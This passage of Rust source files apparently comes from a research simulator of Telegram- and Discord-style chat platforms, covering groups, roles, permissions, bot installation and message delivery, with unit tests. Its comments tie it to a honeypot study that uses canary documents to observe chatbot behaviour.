        let g = inner.groups.get_mut(&group).ok_or(TgError::UnknownGroup)?;
        if !g.members.contains(&author) {
            return Err(TgError::NotMember);
        }
        let message = TgMessage {
            id,
            group,
            author,
            content: content.to_string(),
            attachments,
            at: now,
        };
        g.messages.push(message.clone());
        // Fan out to connected member bots (never back to the author).
        for member in g.members.iter().copied().filter(|m| *m != author) {
            let Some(reg) = inner.bots.get(&member) else {
                continue;
            };
            let is_admin = g.admins.contains_key(&member);
            if !Self::bot_sees(reg, is_admin, &message) {
                continue;
            }
            if let Some(q) = inner.queues.get_mut(&member) {
                q.push_back(TgUpdate::Message {
                    group,
                    message: message.clone(),
                });
            }
        }
        Ok(id)
    }

    /// Read a group's transcript. Human members only: the Bot API has no
    /// history endpoint, which is exactly why privacy mode is a real
    /// mitigation on this platform.
    pub fn read_history(&self, reader: ActorId, group: RoomId) -> TgResult<Vec<TgMessage>> {
        let inner = self.inner.lock();
        if inner
            .actors
            .get(&reader)
            .ok_or(TgError::UnknownActor)?
            .is_bot
        {
            return Err(TgError::BotsCannotReadHistory);
        }
        let g = inner.groups.get(&group).ok_or(TgError::UnknownGroup)?;
        if !g.members.contains(&reader) {
            return Err(TgError::NotMember);
        }
        Ok(g.messages.clone())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn world() -> (TgPlatform, ActorId, ActorId, RoomId) {
        let p = TgPlatform::new(VirtualClock::new());
        let owner = p.register_user("owner", "o@x.y");
        let alice = p.register_user("alice", "a@x.y");
        let group = p.create_group(owner, "honeypot").unwrap();
        let code = p.invite_link(owner, group).unwrap();
        p.join_group(alice, group, Some(&code)).unwrap();
        (p, owner, alice, group)
    }

    #[test]
    fn ids_are_dense_and_deterministic() {
        let (_p, owner, alice, group) = world();
        assert_eq!((owner, alice, group), (1_000, 1_001, 1_002));
        let (_q, o, a, g) = world();
        assert_eq!((o, a, g), (owner, alice, group));
    }

    #[test]
    fn join_requires_matching_invite() {
        let (p, _owner, _alice, group) = world();
        let bob = p.register_user("bob", "b@x.y");
        assert_eq!(p.join_group(bob, group, None), Err(TgError::InviteRequired));
        assert_eq!(
            p.join_group(bob, group, Some("wrong")),
            Err(TgError::BadInvite)
        );
        p.join_group(bob, group, Some(&format!("tg-join-{group}")))
            .unwrap();
    }

    #[test]
    fn privacy_mode_on_delivers_only_addressed_messages() {
        let (p, owner, alice, group) = world();
        let bot = p.register_bot("quietbot", TgRights::NONE, true).unwrap();
        p.add_bot_to_group(owner, group, bot).unwrap();
        p.connect_gateway(bot).unwrap();

        p.send_message(alice, group, "secret plans here", vec![])
            .unwrap();
        p.send_message(alice, group, "/help", vec![]).unwrap();
        p.send_message(alice, group, "/start@quietbot", vec![])
            .unwrap();
        p.send_message(alice, group, "/start@otherbot", vec![])
            .unwrap();
        p.send_message(alice, group, "hey @quietbot look", vec![])
            .unwrap();

        let updates = p.drain_updates(bot);
        let contents: Vec<&str> = updates
            .iter()
            .map(|TgUpdate::Message { message, .. }| message.content.as_str())
            .collect();
        assert_eq!(
            contents,
            vec!["/help", "/start@quietbot", "hey @quietbot look"],
            "plain chatter and other bots' commands are withheld"
        );
    }

    #[test]
    fn privacy_mode_off_delivers_everything() {
        let (p, owner, alice, group) = world();
        let bot = p.register_bot("snoopybot", TgRights::NONE, false).unwrap();
        p.add_bot_to_group(owner, group, bot).unwrap();
        p.connect_gateway(bot).unwrap();
        p.send_message(alice, group, "secret plans here", vec![])
            .unwrap();
        assert_eq!(p.drain_updates(bot).len(), 1);
    }

    #[test]
    fn admin_rights_override_privacy_mode() {
        let (p, owner, alice, group) = world();
        let bot = p
            .register_bot("modbot", TgRights::DELETE_MESSAGES, true)
            .unwrap();
        p.add_bot_to_group(owner, group, bot).unwrap();
        p.connect_gateway(bot).unwrap();
        assert_eq!(
            p.admin_rights(group, bot).unwrap(),
            TgRights::DELETE_MESSAGES
        );
        p.send_message(alice, group, "not addressed to anyone", vec![])
            .unwrap();
        assert_eq!(p.drain_updates(bot).len(), 1, "admins see everything");
    }

    #[test]
    fn bots_cannot_read_history() {
        let (p, owner, _alice, group) = world();
        let bot = p.register_bot("histbot", TgRights::NONE, false).unwrap();
        p.add_bot_to_group(owner, group, bot).unwrap();
        assert_eq!(
            p.read_history(bot, group),
            Err(TgError::BotsCannotReadHistory)
        );
        assert!(p.read_history(owner, group).is_ok());
    }

    #[test]
    fn author_never_receives_own_message() {
        let (p, owner, _alice, group) = world();
        let bot = p.register_bot("echobot", TgRights::NONE, false).unwrap();
        p.add_bot_to_group(owner, group, bot).unwrap();
        p.connect_gateway(bot).unwrap();
        p.send_message(bot, group, "I talk to myself", vec![])
            .unwrap();
        assert!(p.drain_updates(bot).is_empty());
    }

    #[test]
    fn slash_command_parsing() {
        let m = |c: &str| TgMessage {
            id: 1,
            group: 1,
            author: 1,
            content: c.to_string(),
            attachments: vec![],
            at: SimInstant::EPOCH,
        };
        assert_eq!(m("/help").slash_command(), Some(("help", None)));
        assert_eq!(
            m("/start@mybot now").slash_command(),
            Some(("start", Some("mybot")))
        );
        assert_eq!(m("hello /help").slash_command(), None);
        assert_eq!(m("/").slash_command(), None);
    }

    #[test]
    fn username_collisions_rejected() {
        let p = TgPlatform::new(VirtualClock::new());
        p.register_bot("dup", TgRights::NONE, true).unwrap();
        assert_eq!(
            p.register_bot("dup", TgRights::NONE, true),
            Err(TgError::UsernameTaken("dup".into()))
        );
    }
}
