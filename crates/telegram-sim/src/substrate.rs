//! [`ChatSubstrate`] implementation: the honeypot campaign's view of the
//! Telegram-style world.

use crate::behavior::{TgApi, TgBehavior};
use crate::tg::{TgPlatform, TgResult};
use netsim::Network;
use platform::{
    ActorId, ChannelId, ChatAttachment, ChatMessage, ChatSubstrate, PersonaRoster, PlatformKind,
    RoomId, SubstrateError, SubstrateResult, TELEGRAM_DEEPLINK_HOST,
};

fn map_err(e: impl std::fmt::Display) -> SubstrateError {
    SubstrateError(e.to_string())
}

/// A connected bot backend: account + update queue + behaviour.
pub struct TgBot {
    bot: ActorId,
    behavior: Box<dyn TgBehavior>,
    api: TgApi,
    platform: TgPlatform,
}

impl TgBot {
    /// Open the bot's update stream and attach its backend behaviour.
    pub fn connect(
        platform: TgPlatform,
        net: Network,
        bot: ActorId,
        label: &str,
        behavior: Box<dyn TgBehavior>,
    ) -> TgResult<TgBot> {
        platform.connect_gateway(bot)?;
        let api = TgApi::new(platform.clone(), net, bot, label);
        Ok(TgBot {
            bot,
            behavior,
            api,
            platform,
        })
    }

    /// The backing bot account.
    pub fn bot_id(&self) -> ActorId {
        self.bot
    }

    /// Drain pending updates through the behaviour; returns how many were
    /// processed.
    pub fn poll(&mut self) -> usize {
        let updates = self.platform.drain_updates(self.bot);
        for update in &updates {
            self.behavior.on_update(update, &mut self.api);
        }
        updates.len()
    }
}

/// The campaign's persona pool on the Telegram substrate. Joining a group
/// by invite link has no verification wall, so `manual_verifications`
/// stays zero — a per-platform cost difference the report surfaces.
struct TgPersonaPool {
    platform: TgPlatform,
    personas: Vec<ActorId>,
}

impl PersonaRoster for TgPersonaPool {
    fn join_all(&mut self, room: RoomId, invite_code: Option<&str>) -> SubstrateResult<()> {
        for persona in &self.personas {
            self.platform
                .join_group(*persona, room, invite_code)
                .map_err(map_err)?;
        }
        Ok(())
    }

    fn by_index(&self, idx: usize) -> ActorId {
        self.personas[idx % self.personas.len()]
    }

    fn len(&self) -> usize {
        self.personas.len()
    }

    fn manual_verifications(&self) -> u64 {
        0
    }
}

/// The Telegram-style world as a [`ChatSubstrate`].
#[derive(Clone)]
pub struct TelegramSubstrate {
    platform: TgPlatform,
    net: Network,
}

impl TelegramSubstrate {
    /// Wrap a platform + network pair.
    pub fn new(platform: TgPlatform, net: Network) -> TelegramSubstrate {
        TelegramSubstrate { platform, net }
    }

    /// The underlying platform handle.
    pub fn platform(&self) -> &TgPlatform {
        &self.platform
    }

    /// Parse a deep link into the bot username it names.
    fn username_of(invite: &str) -> SubstrateResult<String> {
        let url = netsim::http::Url::parse(invite)
            .map_err(|e| SubstrateError(format!("malformed deep link: {e}")))?;
        if url.host != TELEGRAM_DEEPLINK_HOST {
            return Err(SubstrateError(format!(
                "not a {TELEGRAM_DEEPLINK_HOST} deep link: {}",
                url.host
            )));
        }
        url.segments()
            .first()
            .filter(|s| !s.is_empty())
            .map(|s| s.to_string())
            .ok_or_else(|| SubstrateError("deep link names no bot".into()))
    }
}

impl ChatSubstrate for TelegramSubstrate {
    type Behavior = dyn TgBehavior;
    type Backend = TgBot;

    fn kind(&self) -> PlatformKind {
        PlatformKind::Telegram
    }

    fn network(&self) -> &Network {
        &self.net
    }

    fn register_operator(&self, handle: &str, email: &str) -> ActorId {
        self.platform.register_user(handle, email)
    }

    fn provision_personas(&self, count: usize, _auto_verify: bool) -> Box<dyn PersonaRoster> {
        let personas = (0..count)
            .map(|i| {
                self.platform.register_user(
                    &format!("persona-{i:03}"),
                    &format!("persona{i}@lab.example"),
                )
            })
            .collect();
        Box::new(TgPersonaPool {
            platform: self.platform.clone(),
            personas,
        })
    }

    fn create_room(&self, owner: ActorId, name: &str) -> SubstrateResult<RoomId> {
        self.platform.create_group(owner, name).map_err(map_err)
    }

    fn room_invite(&self, owner: ActorId, room: RoomId) -> SubstrateResult<String> {
        self.platform.invite_link(owner, room).map_err(map_err)
    }

    fn install_requires_captcha(&self) -> bool {
        false
    }

    fn install_bot(
        &self,
        installer: ActorId,
        room: RoomId,
        invite: &str,
        _captcha_solved: bool,
    ) -> SubstrateResult<ActorId> {
        let username = Self::username_of(invite)?;
        let bot = self
            .platform
            .bot_by_username(&username)
            .ok_or_else(|| SubstrateError(format!("no bot registered as @{username}")))?;
        self.platform
            .add_bot_to_group(installer, room, bot)
            .map_err(map_err)
    }

    fn plant_webhook(
        &self,
        _owner: ActorId,
        _room: RoomId,
        _name: &str,
    ) -> SubstrateResult<Option<String>> {
        // No webhooks on this platform: the token-theft canary class does
        // not exist here.
        Ok(None)
    }

    fn connect_backend(
        &self,
        bot: ActorId,
        label: &str,
        behavior: Box<Self::Behavior>,
    ) -> SubstrateResult<Self::Backend> {
        TgBot::connect(
            self.platform.clone(),
            self.net.clone(),
            bot,
            label,
            behavior,
        )
        .map_err(map_err)
    }

    fn drive_to_idle(&self, backend: &mut Self::Backend) -> usize {
        let mut total = 0;
        for _ in 0..1_000 {
            let n = backend.poll();
            if n == 0 {
                break;
            }
            total += n;
        }
        total
    }

    fn default_channel(&self, room: RoomId) -> SubstrateResult<ChannelId> {
        // A Telegram group is its own single channel.
        Ok(room)
    }

    fn send_message(
        &self,
        author: ActorId,
        channel: ChannelId,
        content: &str,
        attachments: Vec<ChatAttachment>,
    ) -> SubstrateResult<u64> {
        self.platform
            .send_message(author, channel, content, attachments)
            .map_err(map_err)
    }

    fn read_history(
        &self,
        reader: ActorId,
        channel: ChannelId,
    ) -> SubstrateResult<Vec<ChatMessage>> {
        let messages = self
            .platform
            .read_history(reader, channel)
            .map_err(map_err)?;
        Ok(messages
            .into_iter()
            .map(|m| ChatMessage {
                id: m.id,
                author: m.author,
                author_is_bot: self.platform.is_bot(m.author),
                content: m.content,
                at: m.at,
            })
            .collect())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::behavior::TgBenignBehavior;
    use crate::gate::deep_link;
    use netsim::clock::VirtualClock;
    use platform::TgRights;

    fn substrate() -> TelegramSubstrate {
        let clock = VirtualClock::new();
        let net = Network::with_clock(1, clock.clone());
        TelegramSubstrate::new(TgPlatform::new(clock), net)
    }

    #[test]
    fn full_room_lifecycle_via_trait() {
        let s = substrate();
        let op = s.register_operator("researcher", "research@lab.example");
        let room = s.create_room(op, "honeypot-a").unwrap();
        let invite = s.room_invite(op, room).unwrap();
        let mut roster = s.provision_personas(3, false);
        roster.join_all(room, Some(&invite)).unwrap();
        assert_eq!(roster.len(), 3);
        assert_eq!(roster.manual_verifications(), 0);

        s.platform()
            .register_bot("helpbot", TgRights::NONE, true)
            .unwrap();
        let link = deep_link("helpbot", TgRights::NONE);
        let bot = s.install_bot(op, room, &link, false).unwrap();
        let mut backend = s
            .connect_backend(bot, "helpbot", Box::new(TgBenignBehavior::new("fun")))
            .unwrap();

        let ch = s.default_channel(room).unwrap();
        s.send_message(roster.by_index(0), ch, "/ping", vec![])
            .unwrap();
        assert_eq!(s.drive_to_idle(&mut backend), 1);

        let history = s.read_history(op, ch).unwrap();
        let last = history.last().unwrap();
        assert_eq!(last.content, "pong");
        assert!(last.author_is_bot);
    }

    #[test]
    fn install_rejects_foreign_and_unknown_links() {
        let s = substrate();
        let op = s.register_operator("researcher", "r@lab.example");
        let room = s.create_room(op, "honeypot-b").unwrap();
        assert!(s
            .install_bot(op, room, "https://discord.sim/oauth2/authorize?x=1", false)
            .is_err());
        assert!(s
            .install_bot(op, room, &deep_link("ghostbot", TgRights::NONE), false)
            .is_err());
        assert!(s.install_bot(op, room, "not a link at all", false).is_err());
    }

    #[test]
    fn webhooks_do_not_exist_here() {
        let s = substrate();
        let op = s.register_operator("r", "r@lab.example");
        let room = s.create_room(op, "h").unwrap();
        assert_eq!(s.plant_webhook(op, room, "ci").unwrap(), None);
    }
}
