//! Messages and attachments.

use crate::channel::ChannelId;
use crate::snowflake::Snowflake;
use crate::user::UserId;
use bytes::Bytes;
use netsim::clock::SimInstant;
use serde::{Deserialize, Serialize};
use std::fmt;

/// Identifier newtype for messages.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct MessageId(pub Snowflake);

impl fmt::Display for MessageId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "message:{}", self.0)
    }
}

/// A file attached to a message. The honeypot posts canary Word/PDF
/// documents as attachments; their `bytes` embed the token.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Attachment {
    /// File name, e.g. `Q3-budget.docx`.
    pub filename: String,
    /// Declared media type, e.g. `application/pdf`.
    pub content_type: String,
    /// File contents.
    pub bytes: Bytes,
}

impl Attachment {
    /// Build an attachment from parts.
    pub fn new(filename: &str, content_type: &str, bytes: impl Into<Bytes>) -> Attachment {
        Attachment {
            filename: filename.to_string(),
            content_type: content_type.to_string(),
            bytes: bytes.into(),
        }
    }
}

/// A message in a text channel.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Message {
    /// Stable identifier (timestamp-ordered).
    pub id: MessageId,
    /// Channel the message was posted in.
    pub channel: ChannelId,
    /// Author account (human or bot).
    pub author: UserId,
    /// Text content.
    pub content: String,
    /// Attached files.
    pub attachments: Vec<Attachment>,
    /// Virtual post time.
    pub at: SimInstant,
}

impl Message {
    /// Whether the content invokes a command with the given prefix, e.g.
    /// `!info` for prefix `!`.
    pub fn command<'a>(&'a self, prefix: &str) -> Option<(&'a str, &'a str)> {
        let rest = self.content.strip_prefix(prefix)?;
        if rest.is_empty() || rest.starts_with(char::is_whitespace) {
            return None;
        }
        match rest.split_once(char::is_whitespace) {
            Some((cmd, args)) => Some((cmd, args.trim())),
            None => Some((rest, "")),
        }
    }

    /// URLs mentioned in the message content (scheme `http`/`https`).
    pub fn urls(&self) -> Vec<&str> {
        self.content
            .split_whitespace()
            .filter(|w| w.starts_with("http://") || w.starts_with("https://"))
            .collect()
    }

    /// Email addresses mentioned in the content (lightweight heuristic:
    /// `local@domain.tld` tokens).
    pub fn emails(&self) -> Vec<&str> {
        self.content
            .split_whitespace()
            .map(|w| {
                w.trim_matches(|c: char| {
                    !c.is_ascii_alphanumeric()
                        && c != '@'
                        && c != '.'
                        && c != '-'
                        && c != '_'
                        && c != '+'
                })
            })
            .filter(|w| {
                let Some((local, domain)) = w.split_once('@') else {
                    return false;
                };
                !local.is_empty()
                    && domain.contains('.')
                    && !domain.starts_with('.')
                    && !domain.ends_with('.')
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn msg(content: &str) -> Message {
        Message {
            id: MessageId(Snowflake(1)),
            channel: ChannelId(Snowflake(2)),
            author: UserId(Snowflake(3)),
            content: content.to_string(),
            attachments: Vec::new(),
            at: SimInstant::EPOCH,
        }
    }

    #[test]
    fn command_parsing() {
        assert_eq!(msg("!info").command("!"), Some(("info", "")));
        assert_eq!(
            msg("!kick @bob being rude").command("!"),
            Some(("kick", "@bob being rude"))
        );
        assert_eq!(msg("hello !info").command("!"), None);
        assert_eq!(msg("! spaced").command("!"), None);
        assert_eq!(msg("?info").command("!"), None);
        assert_eq!(msg("$$play song").command("$$"), Some(("play", "song")));
    }

    #[test]
    fn url_extraction() {
        let m = msg("check https://docs.example/report and http://a.b/c now");
        assert_eq!(
            m.urls(),
            vec!["https://docs.example/report", "http://a.b/c"]
        );
        assert!(msg("no links here").urls().is_empty());
    }

    #[test]
    fn email_extraction() {
        let m = msg("reach me at finance-lead@corp.example, thanks");
        assert_eq!(m.emails(), vec!["finance-lead@corp.example"]);
        assert!(msg("not an @ email").emails().is_empty());
        assert!(msg("bad@domain").emails().is_empty());
    }

    #[test]
    fn attachments_carry_bytes() {
        let a = Attachment::new("x.pdf", "application/pdf", vec![1, 2, 3]);
        assert_eq!(a.bytes.len(), 3);
        assert_eq!(a.filename, "x.pdf");
    }
}
