//! Platform error taxonomy.

use crate::permissions::Permissions;
use std::fmt;

/// Why a platform API call was rejected.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PlatformError {
    /// The actor lacks a required permission in the relevant scope.
    MissingPermission {
        /// What was required.
        required: Permissions,
        /// Human-readable action description.
        action: String,
    },
    /// The action violates the role hierarchy (rules i–iv of §4.1).
    HierarchyViolation {
        /// Which rule was violated, verbatim from the paper.
        rule: &'static str,
    },
    /// Referenced entity does not exist.
    NotFound {
        /// What was looked up.
        what: String,
    },
    /// The actor is not a member of the guild.
    NotAMember,
    /// Private guilds require an invite (§4.1).
    InviteRequired,
    /// A new account joined guilds too quickly and was flagged; mobile
    /// verification required (§4.2).
    VerificationRequired,
    /// OAuth installation problem (bad scope, missing consent, …).
    OAuth {
        /// Reason text.
        reason: String,
    },
    /// The install flow presented a captcha that was not solved.
    CaptchaRequired,
    /// Anything else.
    Invalid {
        /// Reason text.
        reason: String,
    },
}

impl fmt::Display for PlatformError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            PlatformError::MissingPermission { required, action } => {
                write!(f, "missing permission [{required}] for {action}")
            }
            PlatformError::HierarchyViolation { rule } => {
                write!(f, "role hierarchy violation: {rule}")
            }
            PlatformError::NotFound { what } => write!(f, "not found: {what}"),
            PlatformError::NotAMember => f.write_str("actor is not a member of the guild"),
            PlatformError::InviteRequired => f.write_str("private guild requires an invite"),
            PlatformError::VerificationRequired => {
                f.write_str("account flagged: mobile verification required")
            }
            PlatformError::OAuth { reason } => write!(f, "oauth error: {reason}"),
            PlatformError::CaptchaRequired => f.write_str("captcha required"),
            PlatformError::Invalid { reason } => write!(f, "invalid: {reason}"),
        }
    }
}

impl std::error::Error for PlatformError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_mentions_permission_names() {
        let e = PlatformError::MissingPermission {
            required: Permissions::MANAGE_GUILD,
            action: "install a chatbot".into(),
        };
        let s = e.to_string();
        assert!(s.contains("manage server"));
        assert!(s.contains("install a chatbot"));
    }
}
