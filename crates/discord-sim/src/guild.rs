//! Guilds (servers), members, and invites.

use crate::channel::{Channel, ChannelId};
use crate::error::PlatformError;
use crate::permissions::Permissions;
use crate::role::{Role, RoleId};
use crate::snowflake::Snowflake;
use crate::user::UserId;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::fmt;

/// Identifier newtype for guilds.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct GuildId(pub Snowflake);

impl fmt::Display for GuildId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "guild:{}", self.0)
    }
}

/// Public guilds are open to anyone; private guilds need an invite (§4.1).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum GuildVisibility {
    /// Anyone may join.
    Public,
    /// Joining requires an invite code.
    Private,
}

/// A user's membership in one guild.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Member {
    /// The account.
    pub user: UserId,
    /// Additional roles beyond the implicit `@everyone`.
    pub roles: Vec<RoleId>,
    /// Per-guild nickname.
    pub nickname: Option<String>,
}

/// A guild: roles, members, channels.
#[derive(Debug, Clone)]
pub struct Guild {
    /// Stable identifier.
    pub id: GuildId,
    /// Display name. The honeypot names guilds after the bot under test so
    /// canary triggers can be attributed (§4.2).
    pub name: String,
    /// The owning user — always treated as having every permission.
    pub owner: UserId,
    /// Public or private.
    pub visibility: GuildVisibility,
    /// All roles, keyed by ID. Always contains the `@everyone` role.
    pub roles: BTreeMap<RoleId, Role>,
    /// The `@everyone` role's ID.
    pub everyone_role: RoleId,
    /// Members keyed by user.
    pub members: BTreeMap<UserId, Member>,
    /// Channels keyed by ID.
    pub channels: BTreeMap<ChannelId, Channel>,
    /// Outstanding invite codes.
    pub invites: Vec<String>,
}

impl Guild {
    /// Create a guild with the implicit `@everyone` role and the owner as
    /// first member.
    pub fn new(
        id: GuildId,
        name: &str,
        owner: UserId,
        everyone_role_id: RoleId,
        visibility: GuildVisibility,
    ) -> Guild {
        let everyone = Role::everyone(everyone_role_id);
        let mut roles = BTreeMap::new();
        roles.insert(everyone_role_id, everyone);
        let mut members = BTreeMap::new();
        members.insert(
            owner,
            Member {
                user: owner,
                roles: Vec::new(),
                nickname: None,
            },
        );
        Guild {
            id,
            name: name.to_string(),
            owner,
            visibility,
            roles,
            everyone_role: everyone_role_id,
            members,
            channels: BTreeMap::new(),
            invites: Vec::new(),
        }
    }

    /// Membership lookup.
    pub fn member(&self, user: UserId) -> Result<&Member, PlatformError> {
        self.members.get(&user).ok_or(PlatformError::NotAMember)
    }

    /// Mutable membership lookup.
    pub fn member_mut(&mut self, user: UserId) -> Result<&mut Member, PlatformError> {
        self.members.get_mut(&user).ok_or(PlatformError::NotAMember)
    }

    /// Role lookup.
    pub fn role(&self, id: RoleId) -> Result<&Role, PlatformError> {
        self.roles.get(&id).ok_or_else(|| PlatformError::NotFound {
            what: id.to_string(),
        })
    }

    /// Channel lookup.
    pub fn channel(&self, id: ChannelId) -> Result<&Channel, PlatformError> {
        self.channels
            .get(&id)
            .ok_or_else(|| PlatformError::NotFound {
                what: id.to_string(),
            })
    }

    /// All roles a member holds, including `@everyone`.
    pub fn member_roles(&self, user: UserId) -> Result<Vec<&Role>, PlatformError> {
        let member = self.member(user)?;
        let mut roles = vec![self.role(self.everyone_role)?];
        for rid in &member.roles {
            roles.push(self.role(*rid)?);
        }
        Ok(roles)
    }

    /// The *position* of the member's highest role (0 = only `@everyone`).
    ///
    /// The hierarchy rules in §4.1 are all phrased in terms of this value.
    pub fn highest_role_position(&self, user: UserId) -> Result<u32, PlatformError> {
        Ok(self
            .member_roles(user)?
            .iter()
            .map(|r| r.position)
            .max()
            .unwrap_or(0))
    }

    /// Union of guild-level permissions across the member's roles
    /// (without the admin short-circuit — see [`crate::resolve`]).
    pub fn base_permissions(&self, user: UserId) -> Result<Permissions, PlatformError> {
        Ok(self
            .member_roles(user)?
            .iter()
            .fold(Permissions::NONE, |acc, r| acc | r.permissions))
    }

    /// Text channels in ID order.
    pub fn text_channels(&self) -> impl Iterator<Item = &Channel> {
        self.channels
            .values()
            .filter(|c| c.kind == crate::channel::ChannelKind::Text)
    }

    /// Whether an invite code is valid for this guild.
    pub fn has_invite(&self, code: &str) -> bool {
        self.invites.iter().any(|c| c == code)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ids() -> (GuildId, UserId, RoleId) {
        (
            GuildId(Snowflake(1)),
            UserId(Snowflake(2)),
            RoleId(Snowflake(3)),
        )
    }

    #[test]
    fn new_guild_has_everyone_and_owner() {
        let (gid, owner, rid) = ids();
        let g = Guild::new(gid, "test", owner, rid, GuildVisibility::Private);
        assert!(g.roles[&rid].is_everyone());
        assert!(g.member(owner).is_ok());
        assert_eq!(g.members.len(), 1);
    }

    #[test]
    fn member_roles_include_everyone() {
        let (gid, owner, rid) = ids();
        let mut g = Guild::new(gid, "test", owner, rid, GuildVisibility::Public);
        let mod_role = RoleId(Snowflake(10));
        g.roles.insert(
            mod_role,
            Role {
                id: mod_role,
                name: "Mod".into(),
                position: 3,
                permissions: Permissions::KICK_MEMBERS,
            },
        );
        g.member_mut(owner).unwrap().roles.push(mod_role);
        let roles = g.member_roles(owner).unwrap();
        assert_eq!(roles.len(), 2);
        assert_eq!(g.highest_role_position(owner).unwrap(), 3);
        let base = g.base_permissions(owner).unwrap();
        assert!(base.contains(Permissions::KICK_MEMBERS));
        assert!(base.contains(Permissions::SEND_MESSAGES), "from @everyone");
    }

    #[test]
    fn non_member_lookup_fails() {
        let (gid, owner, rid) = ids();
        let g = Guild::new(gid, "test", owner, rid, GuildVisibility::Public);
        let stranger = UserId(Snowflake(99));
        assert_eq!(g.member(stranger).unwrap_err(), PlatformError::NotAMember);
        assert!(g.highest_role_position(stranger).is_err());
    }

    #[test]
    fn invites() {
        let (gid, owner, rid) = ids();
        let mut g = Guild::new(gid, "test", owner, rid, GuildVisibility::Private);
        assert!(!g.has_invite("abc"));
        g.invites.push("abc".into());
        assert!(g.has_invite("abc"));
    }
}
