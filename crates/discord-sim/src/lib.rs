//! # discord-sim — a faithful model of the Discord platform surface
//!
//! The paper's findings hinge on specific semantics of Discord's permission
//! system (§4.1): the 40+ permission bits, the `administrator` short-circuit,
//! channel permission overwrites, the five role-hierarchy rules, OAuth-based
//! chatbot installation gated on `MANAGE_GUILD`, and — crucially — the fact
//! that the platform enforces a *bot's* permissions but leaves checking the
//! *invoking user's* permissions entirely to third-party developers (the root
//! of the permission re-delegation risk the paper measures).
//!
//! This crate implements that platform surface:
//!
//! * [`snowflake`] — time-ordered IDs, generated from the shared virtual clock;
//! * [`permissions`] — the permission bitfield and its invite-link encoding;
//! * [`role`], [`user`], [`channel`], [`message`] — the data model;
//! * [`guild`] — guilds, members, roles, channels, invites;
//! * [`resolve`] — effective-permission computation (base roles → admin
//!   short-circuit → channel overwrites → owner override);
//! * [`hierarchy`] — the five hierarchy rules quoted verbatim from §4.1;
//! * [`oauth`] — invite URLs, scopes, and the consent screen (Figure 2);
//! * [`gateway`] — event dispatch to installed bots;
//! * [`audit`] — the audit log;
//! * [`platform`] — the API surface tying it together, with Discord's
//!   enforcement model: every call is checked against the *actor's* effective
//!   permissions, and nothing else.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod audit;
pub mod channel;
pub mod enforcer;
pub mod error;
pub mod gateway;
pub mod guild;
pub mod hierarchy;
pub mod message;
pub mod oauth;
pub mod permissions;
pub mod platform;
pub mod resolve;
pub mod role;
pub mod slash;
pub mod snowflake;
pub mod user;
pub mod webgate;

pub use channel::{Channel, ChannelId, ChannelKind, Overwrite, OverwriteTarget};
pub use enforcer::{PlatformProfile, RuntimePolicy};
pub use error::PlatformError;
pub use gateway::GatewayEvent;
pub use guild::{Guild, GuildId, GuildVisibility, Member};
pub use message::{Attachment, Message, MessageId};
pub use oauth::{InviteUrl, OAuthScope};
pub use permissions::Permissions;
pub use platform::{Emoji, Platform, Webhook};
pub use role::{Role, RoleId};
pub use slash::SlashCommand;
pub use snowflake::{Snowflake, SnowflakeGen};
pub use user::{User, UserId, UserKind};
pub use webgate::{OAuthWebGate, PLATFORM_HOST};

/// Result alias for platform operations.
pub type PlatformResult<T> = Result<T, PlatformError>;
