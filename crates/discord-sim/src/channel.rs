//! Channels and permission overwrites.
//!
//! Guilds contain voice and text channels (§4.1). Roles "can be assigned on
//! both a guild-based level and a channel-based level" — the channel level
//! is expressed through allow/deny *overwrites*, which the `administrator`
//! permission bypasses entirely.

use crate::permissions::Permissions;
use crate::role::RoleId;
use crate::snowflake::Snowflake;
use crate::user::UserId;
use serde::{Deserialize, Serialize};
use std::fmt;

/// Identifier newtype for channels.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct ChannelId(pub Snowflake);

impl fmt::Display for ChannelId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "channel:{}", self.0)
    }
}

/// Text or voice.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum ChannelKind {
    /// Message exchange; the honeypot operates here.
    Text,
    /// Voice; modeled for permission purposes only.
    Voice,
}

/// Who a permission overwrite targets.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum OverwriteTarget {
    /// Applies to every member holding the role.
    Role(RoleId),
    /// Applies to a single member.
    Member(UserId),
}

/// A channel-level allow/deny pair.
///
/// Resolution order (matching Discord): role overwrites apply first
/// (deny then allow, aggregated across the member's roles), then member
/// overwrites (deny then allow).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Overwrite {
    /// Target of the overwrite.
    pub target: OverwriteTarget,
    /// Bits explicitly granted in this channel.
    pub allow: Permissions,
    /// Bits explicitly removed in this channel.
    pub deny: Permissions,
}

/// A guild channel.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Channel {
    /// Stable identifier.
    pub id: ChannelId,
    /// Display name, e.g. `general`.
    pub name: String,
    /// Text or voice.
    pub kind: ChannelKind,
    /// Channel-level permission overwrites.
    pub overwrites: Vec<Overwrite>,
}

impl Channel {
    /// A plain text channel with no overwrites.
    pub fn text(id: ChannelId, name: &str) -> Channel {
        Channel {
            id,
            name: name.to_string(),
